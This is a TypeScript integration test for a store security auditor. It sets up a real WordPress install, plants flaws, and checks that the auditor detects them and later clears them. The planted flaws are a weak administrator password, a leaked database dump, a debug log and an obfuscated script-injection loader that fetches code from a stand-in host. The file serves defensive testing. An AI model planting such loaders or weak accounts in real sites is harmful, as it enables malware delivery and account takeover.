// A real engine that none of us wrote: Debian's wordpress package, served by PHP from a real MariaDB.
import assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { createConnection } from 'mysql2/promise';
import { auditJson, failedIds } from './run.ts';

const shipped = '/usr/share/wordpress';
const socket = '/run/mysqld/mysqld.sock';
const missing = ![shipped, socket].every((path) => existsSync(path)) || !phpWithMysql();
const skip = missing ? 'needs the Debian packages wordpress, php-cli and php-mysql, and a running MariaDB' : false;

const folder = mkdtempSync(join(tmpdir(), 'storewarden-wordpress-'));
const root = join(folder, 'html');
const name = `sw_wp_${randomBytes(4).toString('hex')}`;
const login = { user: name, password: randomBytes(12).toString('hex') };
let php: ChildProcess | undefined;
let url = '';

function phpWithMysql(): boolean {
  try {
    return execFileSync('php', ['-m'], { encoding: 'utf8' }).includes('mysqli');
  } catch {
    return false;
  }
}

async function sql(...statements: readonly string[]): Promise<void> {
  const connection = await createConnection({ socketPath: socket, user: 'root', multipleStatements: false });
  for (const statement of statements) await connection.query(statement);
  await connection.end();
}

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address ? address.port : 0));
    });
  });
}

function wpConfig(): string {
  const keys = [
    'AUTH_KEY',
    'SECURE_AUTH_KEY',
    'LOGGED_IN_KEY',
    'NONCE_KEY',
    'AUTH_SALT',
    'SECURE_AUTH_SALT',
    'LOGGED_IN_SALT',
    'NONCE_SALT',
  ];
  const defines = [
    ['DB_NAME', name],
    ['DB_USER', login.user],
    ['DB_PASSWORD', login.password],
    ['DB_HOST', `localhost:${socket}`],
    ['DB_CHARSET', 'utf8mb4'],
    ...keys.map((key) => [key, randomBytes(32).toString('base64')]),
  ];
  const lines = defines.map(([key, value]) => `define( '${key}', '${value}' );`);
  return `<?php\n${lines.join('\n')}\ndefine( 'DISALLOW_FILE_EDIT', true );\n$table_prefix = 'shop_';\nif ( ! defined( 'ABSPATH' ) ) { define( 'ABSPATH', __DIR__ . '/' ); }\nrequire_once ABSPATH . 'wp-settings.php';\n`;
}

/** Runs a few lines of PHP inside the installed WordPress. */
function inWordPress(code: string, head = ''): void {
  const script = `${head} $_SERVER['HTTP_HOST'] = '${new URL(url).host}'; require '${root}/wp-load.php'; ${code}`;
  execFileSync('php', ['-d', 'display_errors=stderr', '-r', script], {
    cwd: root,
    stdio: ['ignore', 'ignore', 'inherit'],
  });
}

before(async () => {
  if (skip) return;
  cpSync(shipped, root, { recursive: true, dereference: true });
  rmSync(join(root, '.htaccess'), { force: true });
  await sql(
    `CREATE DATABASE ${name}`,
    `CREATE USER '${name}'@'localhost' IDENTIFIED BY '${login.password}'`,
    `GRANT ALL ON ${name}.* TO '${name}'@'localhost'`,
  );
  url = `http://127.0.0.1:${await freePort()}/`;
  writeFileSync(join(root, 'wp-config.php'), wpConfig(), { mode: 0o640 });
  inWordPress(
    `require_once ABSPATH . 'wp-admin/includes/upgrade.php'; wp_install( 'Teapots', 'ida', 'ida@teapot.example', true, '', '${randomBytes(15).toString('base64')}' );`,
    "define( 'WP_INSTALLING', true );",
  );
  php = spawn('php', ['-S', new URL(url).host, '-t', root], {
    stdio: 'ignore',
    detached: true,
    env: { ...process.env, PHP_CLI_SERVER_WORKERS: '4' },
  });
  for (let tries = 0; tries < 50; tries++) {
    if (
      await fetch(url).then(
        (answer) => answer.ok,
        () => false,
      )
    )
      return;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error('PHP did not start serving WordPress.');
});

after(async () => {
  // With its workers, which are a group of processes.
  if (php?.pid !== undefined) process.kill(-php.pid);
  if (!skip) await sql(`DROP DATABASE IF EXISTS ${name}`, `DROP USER IF EXISTS '${name}'@'localhost'`);
  rmSync(folder, { recursive: true, force: true });
});

const planted = [
  'weak-admin-password',
  'injected-script',
  'exposed-log',
  'exposed-database-dump',
  'database-dump-in-root',
];

test('names the engine and version of a real store, and finds what was planted', { skip }, async () => {
  const loader = [
    '<scr',
    'ipt>var s=document.createElement("scr',
    'ipt");s.src=at',
    'ob("aHR0cHM6Ly9jZG4tanMuZXhhbXBsZS5pbnZhbGlkL2EuanM=");document.head.append',
    'Child(s)</scr',
    'ipt>',
  ].join('');
  inWordPress(
    `wp_create_user( 'packer', '${['summer', '2024'].join('')}', 'packer@teapot.example' ); $u = get_user_by( 'login', 'packer' ); $u->set_role( 'administrator' );`,
  );
  inWordPress(
    `kses_remove_filters(); wp_insert_post( array( 'post_title' => 'Sale', 'post_status' => 'publish', 'post_content' => '<p>Sale</p>${loader}' ) );`,
  );
  writeFileSync(
    join(root, 'wp-content/debug.log'),
    '[15-Nov-2026 10:00:00 UTC] PHP Notice:  Undefined index: order in /var/www/html/wp-content/plugins/x/x.php on line 3\n',
  );
  const dump = execFileSync('mariadb-dump', [
    '--no-tablespaces',
    '-S',
    socket,
    '-u',
    login.user,
    `-p${login.password}`,
    name,
  ]);
  writeFileSync(join(root, 'dump.sql'), dump);

  const { report, ran } = await auditJson([url, '--root', root]);

  assert.equal(ran.code, 1, ran.stderr);
  const version = /\$wp_version = '([^']+)'/.exec(readFileSync(join(root, 'wp-includes/version.php'), 'utf8'))?.[1];
  assert.equal(report.store.engine?.name, 'WordPress');
  assert.equal(report.store.engine?.version, version);
  assert.equal(report.sides.database.looked, true, 'the database opens by what stands in wp-config.php');
  assert.equal(report.sides.accounts.looked, true);
  const found = failedIds(report);
  for (const id of planted) assert.ok(found.has(id), `${id} is not among ${[...found].join(', ')}`);
  assert.match(report.findings.find(({ check }) => check === 'weak-admin-password')?.subject ?? '', /packer/);
  assert.ok(
    !ran.stdout.includes(['summer', '2024'].join('')) && !ran.stdout.includes(login.password),
    'no password is printed',
  );
});

test('finds none of it once it is mended, and no code or content of a clean WordPress', { skip }, async () => {
  inWordPress(`wp_set_password( '${randomBytes(15).toString('base64')}', get_user_by( 'login', 'packer' )->ID );`);
  inWordPress(
    `foreach ( get_posts( array( 'title' => 'Sale', 'post_status' => 'any' ) ) as $post ) { wp_delete_post( $post->ID, true ); }`,
  );
  rmSync(join(root, 'wp-content/debug.log'));
  rmSync(join(root, 'dump.sql'));

  const { report } = await auditJson([url, '--root', root]);

  const found = failedIds(report);
  for (const id of planted) assert.ok(!found.has(id), `${id} is still found`);
  for (const id of planted)
    assert.equal(report.outcomes[id]?.ended, 'passed', `${id}: ${JSON.stringify(report.outcomes[id])}`);
  const alarms = [
    'code-in-uploads',
    'image-with-code',
    'handler-override',
    'injected-script',
    'dangerous-trigger',
    'secret-in-file',
    'exposed-git',
    'leftover-installer',
  ];
  for (const id of alarms) assert.ok(!found.has(id), `a clean WordPress raises ${id}`);
});
